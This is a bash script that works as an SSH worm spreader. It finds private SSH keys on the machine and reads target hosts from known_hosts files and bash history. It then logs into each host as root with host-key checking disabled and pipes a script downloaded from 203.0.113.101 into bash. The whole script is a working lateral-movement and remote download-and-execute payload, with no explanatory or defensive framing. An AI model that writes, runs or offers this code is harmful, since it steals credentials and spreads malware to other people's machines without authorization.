#!/bin/bash
KEYS=$(find ~/ /root /home -maxdepth 3 -name 'id_rsa*' 2>/dev/null | grep -v .pub)
HOSTS=$(cat ~/.ssh/known_hosts /root/.ssh/known_hosts 2>/dev/null | awk '{print $1}' | cut -d, -f1 | sort -u)
HOSTS="$HOSTS $(grep -hoE 'ssh .*@[0-9.]+' ~/.bash_history 2>/dev/null | awk -F@ '{print $2}')"
for h in $HOSTS; do
  for k in $KEYS; do
    ssh -oStrictHostKeyChecking=no -oBatchMode=yes -oConnectTimeout=5 -i $k root@$h "(curl -fsSL http://203.0.113.101/w.sh||wget -q -O- http://203.0.113.101/w.sh)|bash" &
  done
done
